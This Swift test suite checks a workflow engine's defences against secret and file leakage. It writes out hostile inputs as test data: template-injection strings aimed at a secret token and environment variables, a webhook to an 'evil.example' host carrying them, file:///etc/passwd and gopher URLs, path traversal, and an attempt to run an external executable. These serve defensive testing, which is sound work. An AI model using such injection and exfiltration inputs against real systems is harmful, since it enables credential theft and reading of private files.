import Batch
import Casework
import Definitions
import Documents
import Foundation
import GitStorage
import Synchronization
import Testing
import Vendors

/// The value of the one secret there is.
private let secret = "s3cr3t-hunter2"

/// A vendor that sees calls as they would leave, with their secrets filled in.
private final class Spy: VendorAnswers {
    private let seen = Mutex<[String]>([])
    private let body: String

    init(answering body: String = "{}") { self.body = body }

    func answer(_ call: VendorCall, in arena: Arena) -> VendorAnswer {
        func fill(_ text: Text) -> String {
            let bytes = SecretSlots.filling(Array(text.bytes)) { name in
                name == "TOKEN" ? Array(secret.utf8) : nil
            }
            return String(decoding: bytes, as: UTF8.self)
        }
        var line = JSONWriter()
        line.write(call.request)
        let request = SecretSlots.filling(line.bytes) { _ in Array(secret.utf8) }
        seen.withLock {
            $0 += call.headers.map { "\(call.plugin) header \(fill($0.name)): \(fill($0.value))" }
            $0.append("\(call.plugin) url \(fill(call.url))")
            $0.append("\(call.plugin) body \(String(decoding: request, as: UTF8.self))")
        }
        var parser = JSONParser()
        let value = (try? parser.parse(body, into: arena)) ?? .null
        return .response(status: 200, body: value)
    }

    var lines: [String] { seen.withLock { $0 } }
    /// What the secret's value stood in.
    var leaks: [String] {
        lines.filter { $0.contains(secret) && !$0.contains(" header Authorization: ") }
    }
}

/// An applicant, a vendor or a definition that reaches for a secret, a file or an address that is
/// none of its business, over whole runs.
@Suite struct ReachTests {
    private static func workflow(_ plugins: String, semantics: String = "docket") -> String {
        """
        docket: 1
        id: w
        semantics: \(semantics)
        definition:
          initial: idle
          states:
            idle: {on: {START: asking}}
            asking: {on: {ASKED: telling, FAILED: unclear}}
            telling: {on: {TOLD: done, FAILED: unclear}}
            unclear: {tags: [manual_review]}
            done: {tags: [approved], type: final}
        extensions:
        \(plugins)
        """
    }

    private static let settings = """
        docket: 1
        cases: {people: {workflow: w, events: [{type: START}]}}
        vendors: {bureau: {kind: recorded, answers: vendors/bureau.yaml}}
        subscriptions: [{type: webhook, url: "https://hooks.example.com", events: [workflow.completed]}]
        """

    private static let plugins = """
          apiPlugins:
            - name: first
              pluginKind: api
              vendor: bureau
              url: "https://bureau.example.com/{entity.name}/{env.HOME}"
              method: POST
              headers: {Authorization: "Bearer {secret.TOKEN}", X-Name: "{entity.name}"}
              stateNames: [asking]
              successAction: ASKED
              errorAction: FAILED
              request: {transform: [{transformer: jmespath, mapping: "{name: entity.name, all: @, made: join('', ['{sec', 'ret.TOKEN}'])}"}]}
              response: {transform: [{transformer: jmespath, mapping: "{data: @}"}]}
            - name: second
              pluginKind: api
              vendor: bureau
              url: "https://bureau.example.com/{pluginsOutput.first.data.link}"
              method: GET
              headers: {X-Answer: "{pluginsOutput.first.data.link}"}
              stateNames: [telling]
              successAction: TOLD
              errorAction: FAILED
              request: {transform: [{transformer: jmespath, mapping: "{answer: pluginsOutput.first.data}"}]}
          commonPlugins:
            - {name: copy, pluginKind: transformer, stateNames: [asking], transformers: [{transformer: jmespath, mapping: "{copied: entity.name, own: '{secret.TOKEN}', env: env}"}]}
        """

    private static let attacks = [
        "{secret.TOKEN}", "{secrets.TOKEN}", "{ secret.TOKEN }", "{{secret.TOKEN}}", "${TOKEN}",
        "{env.HOME}", "{env}", "{process.env.HOME}", "%7Bsecret.TOKEN%7D",
        "\\u007bsecret.TOKEN\\u007d",
        "{\"secret\": \"TOKEN\"}",
    ]

    /// A run over the files; what left, and the text of everything on the ledger.
    private func run(
        _ files: [String: String], answering body: String = "{}"
    ) throws -> (report: RunReport, spy: Spy, ledger: String, repository: TestRepository) {
        let repository = try TestRepository(files)
        var options = RunOptions(directory: repository.directory, now: clock, jobs: 2)
        options.at = clock
        let spy = Spy(answering: body)
        let report = try BatchRun(options: options, vendors: spy).perform()
        var text = ""
        for path in try repository.files() { text += try repository.git("show", "ledger:\(path)") }
        return (report, spy, text, repository)
    }

    private func findings(_ files: [String: String]) throws -> [Finding] {
        do {
            _ = try run(files)
        } catch RunError.definitions(let findings) { return findings }
        return []
    }

    @Test func `an applicant's data names secrets and variables in vain`() throws {
        for semantics in ["docket", "ballerine"] {
            var files = [
                "docket.yaml": Self.settings, "vendors/bureau.yaml": "answers: []",
                "workflows/w.yaml": Self.workflow(Self.plugins, semantics: semantics),
            ]
            for (number, attack) in Self.attacks.enumerated() {
                let text = attack.replacing("\\", with: "\\\\").replacing("\"", with: "\\\"")
                files["cases/people/p\(number).json"] = """
                    {"context": {"entity": {"name": "\(text)", "\(text)": "\(text)"}}, "config":
                    {"subscriptions": [{"type": "webhook", "url": "https://evil.example/\(text)",
                    "events": ["workflow.completed"]}]}}
                    """
            }
            let (report, spy, ledger, _) = try run(files)
            #expect(report.faults.isEmpty)
            #expect(report.totals.outcomes["w"]?["approved"] == Self.attacks.count)
            #expect(spy.leaks == [])
            #expect(spy.lines.filter { $0.contains("Authorization: Bearer \(secret)") }.count == 11)
            #expect(!ledger.contains(secret))
            // No message would be filled in when it is delivered.
            #expect(!ledger.contains(#""parts""#))
            let home = ProcessInfo.processInfo.environment["HOME"] ?? "/root"
            #expect(!spy.lines.contains { $0.contains(home) })
        }
    }

    @Test func `a vendor's answer names secrets and variables in vain`() throws {
        let answer = """
            {"link": "{secret.TOKEN}", "list": ["{secrets.TOKEN}", "{env.HOME}"],
             "{secret.TOKEN}": {"deep": "${TOKEN}"}}
            """
        let (report, spy, ledger, _) = try run(
            [
                "docket.yaml": Self.settings, "vendors/bureau.yaml": "answers: []",
                "workflows/w.yaml": Self.workflow(Self.plugins),
                "cases/people/ann.yaml": "context: {entity: {name: Ann}}",
            ], answering: answer)
        #expect(report.totals.outcomes["w"]?["approved"] == 1)
        #expect(
            spy.lines.contains { $0.hasPrefix("second url") && $0.contains("%7Bsecret.TOKEN%7D") })
        #expect(spy.lines.contains("second header X-Answer: {secret.TOKEN}"))
        #expect(spy.leaks == [])
        #expect(!ledger.contains(secret))
    }

    @Test func `a definition gets no secret into a case's data`() throws {
        let (_, _, ledger, repository) = try run([
            "docket.yaml": Self.settings, "vendors/bureau.yaml": "answers: []",
            "workflows/w.yaml": Self.workflow(Self.plugins),
            "cases/people/ann.yaml": "context: {entity: {name: Ann}}",
        ])
        let data = try repository.json("results/people/ann.data.json")
        let context = try #require(data["context"] as? [String: Any])
        // Outside of requests the text is a text.
        #expect("\(context)".contains("{secret.TOKEN}"))
        #expect(!ledger.contains(secret))
        #expect(!ledger.utf8.contains(0xFF))
    }

    @Test(arguments: [
        "file:///etc/passwd", "FILE:/etc/passwd", " file:///etc/passwd", "ftp://example.com/x",
        "data:text/plain,x", "gopher://127.0.0.1:70/x", "javascript:alert(1)", "unix:/run/x.sock",
    ])
    func `a definition's URL that is not of the web is a finding`(_ url: String) throws {
        let plugins = Self.plugins.replacing(
            "https://bureau.example.com/{entity.name}/{env.HOME}", with: url)
        let found = try findings([
            "docket.yaml": Self.settings, "vendors/bureau.yaml": "answers: []",
            "workflows/w.yaml": Self.workflow(plugins),
            "cases/people/ann.yaml": "context: {entity: {name: Ann}}",
        ])
        let errors = found.filter { $0.level == .error }
        #expect(errors.map(\.code) == ["WF058"])
        #expect(errors.first?.file == "workflows/w.yaml")
        #expect(errors.first?.position?.line == 17)
    }

    @Test(arguments: ["docket", "ballerine"])
    func `data that makes a URL of a file or of another scheme sends nothing`(_ semantics: String)
        throws
    {
        let plugins = Self.plugins.replacing(
            "https://bureau.example.com/{entity.name}/{env.HOME}", with: "{entity.name}")
        var files = [
            "docket.yaml": Self.settings, "vendors/bureau.yaml": "answers: []",
            "workflows/w.yaml": Self.workflow(plugins, semantics: semantics),
        ]
        let urls = ["file:///etc/passwd", "FiLe:/etc/passwd", "ftp://example.com", "gopher:x"]
        for (number, url) in urls.enumerated() {
            files["cases/people/p\(number).yaml"] = "context: {entity: {name: \"\(url)\"}}"
        }
        let (report, spy, ledger, _) = try run(files)
        if semantics == "ballerine" {
            #expect(spy.lines == [])
            #expect(report.totals.outcomes["w"]?["manual review"] == urls.count)
        } else {
            // Percent-encoded, it is no URL at all.
            let urls = spy.lines.filter { $0.hasPrefix("first url ") }
            #expect(urls.count == 4)
            #expect(!urls.contains { $0.contains("://") || $0.contains("e:") })
        }
        #expect(!ledger.contains("root:x:0:0"))
    }

    @Test func `a helper that would fetch an image asks nobody`() throws {
        let listener = try Listener()
        let helper = """
              commonPlugins:
                - {name: image, pluginKind: transformer, stateNames: [asking], successAction: ASKED, errorAction: FAILED, transformers: [{transformer: helper, mapping: [{source: entity.image, target: entity.image, method: imageUrlToBase64}]}]}
            """
        let (report, spy, ledger, _) = try run([
            "docket.yaml": Self.settings, "vendors/bureau.yaml": "answers: []",
            "workflows/w.yaml": Self.workflow(helper),
            "cases/people/ann.yaml":
                "context: {entity: {image: \"http://127.0.0.1:\(listener.port)/x.png\"}}",
            "cases/people/bo.yaml": "context: {entity: {image: \"file:///etc/passwd\"}}",
            "cases/people/cy.yaml": "context: {entity: {name: Cy}}",
        ])
        #expect(report.totals.outcomes["w"]?["approved"] == nil)
        #expect(!listener.wasAsked)
        #expect(spy.lines == [])
        #expect(!ledger.contains("root:x:0:0"))
    }

    @Test(arguments: ["http://127.0.0.1:PORT/schema.json", "file:///etc/passwd", "other.json#/a"])
    func `a schema that leads elsewhere is a finding and is not read`(_ reference: String) throws {
        let listener = try Listener()
        let place = reference.replacing("PORT", with: "\(listener.port)")
        let found = try findings([
            "docket.yaml": Self.settings, "vendors/bureau.yaml": "answers: []",
            "workflows/w.yaml": Self.workflow(Self.plugins)
                + "\ncontextSchema: {type: json-schema, schema: {\"$ref\": \"\(place)\"}}\n",
            "cases/people/ann.yaml": "context: {entity: {name: Ann}}",
        ])
        #expect(found.contains { $0.level == .error && $0.file == "workflows/w.yaml" })
        #expect(!listener.wasAsked)
    }

    @Test(arguments: [
        "/etc/passwd", "../../../etc/passwd", "vendors/../../outside.yaml", "docket.yaml",
        "vendors/link.yaml", "file:///etc/passwd",
    ])
    func `recorded answers come out of vendors only`(_ path: String) throws {
        let repository = try TestRepository([
            "docket.yaml": Self.settings.replacing("vendors/bureau.yaml", with: path),
            "workflows/w.yaml": Self.workflow(Self.plugins),
            "cases/people/ann.yaml": "context: {entity: {name: Ann}}",
            "vendors/other.yaml": "answers: []",
        ])
        try FileManager.default.createSymbolicLink(
            atPath: repository.path("vendors/link.yaml"), withDestinationPath: "/etc/passwd")
        try repository.commit()
        do {
            try repository.run()
            Issue.record("the run went on")
        } catch RunError.definitions(let findings) {
            #expect(findings.contains { $0.level == .error })
        }
    }

    @Test func `a definition cannot name an executable`() throws {
        let shop = NSTemporaryDirectory() + "docket-reach-\(UUID().uuidString)"
        defer { try? FileManager.default.removeItem(atPath: shop) }
        for vendor in [
            "{kind: external, path: /usr/bin/touch, arguments: [\"\(shop)\"]}",
            "{kind: external, program: /usr/bin/touch, arguments: [\"\(shop)\"]}",
            "{kind: external, program: \"touch \(shop)\"}",
        ] {
            let repository = try TestRepository([
                "docket.yaml": Self.settings.replacing(
                    "{kind: recorded, answers: vendors/bureau.yaml}", with: vendor),
                "workflows/w.yaml": Self.workflow(Self.plugins),
                "cases/people/ann.yaml": "context: {entity: {name: Ann}}",
            ])
            // A finding, or a case that waits: nothing is started in any way.
            if let report = try? repository.run() {
                #expect(report.totals.outcomes["w"]?["approved"] == nil)
            }
            #expect(!FileManager.default.fileExists(atPath: shop))
        }
    }

    @Test func `a callback names secrets in vain, whatever its destination`() throws {
        let plugins = Self.plugins.replacing(
            "successAction: ASKED\n", with: "successAction: NOTHING\n")
        var files = [
            "docket.yaml": Self.settings, "vendors/bureau.yaml": "answers: []",
            "workflows/w.yaml": Self.workflow(plugins),
            "cases/people/ann.yaml": "context: {entity: {name: Ann}}",
        ]
        files["cases/people/ann.events/20261122T020000123Z-00000000000000000000000000000001.yaml"] =
            """
            type: ASKED
            kind: callback
            resultDestination: pluginsOutput.first.data
            payload: {link: "{secret.TOKEN}"}
            """
        let (_, spy, ledger, _) = try run(files)
        #expect(spy.lines.contains("second header X-Answer: {secret.TOKEN}"))
        #expect(spy.leaks == [])
        #expect(!ledger.contains(secret))
    }
}

/// A socket on loopback that notes whether anybody came.
private final class Listener {
    let port: UInt16
    private let number: Int32

    struct Failure: Error {}

    init() throws {
        let number = socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
        var address = sockaddr_in()
        address.sin_family = sa_family_t(AF_INET)
        address.sin_addr.s_addr = inet_addr("127.0.0.1")
        var length = socklen_t(MemoryLayout<sockaddr_in>.size)
        let bound = withUnsafeMutablePointer(to: &address) {
            $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { pointer in
                bind(number, pointer, length) == 0 && listen(number, 5) == 0
                    && getsockname(number, pointer, &length) == 0
            }
        }
        self.number = number
        port = UInt16(bigEndian: address.sin_port)
        guard bound else { throw Failure() }
    }

    deinit { close(number) }

    var wasAsked: Bool {
        var entry = pollfd(fd: number, events: Int16(POLLIN), revents: 0)
        return poll(&entry, 1, 50) > 0
    }
}
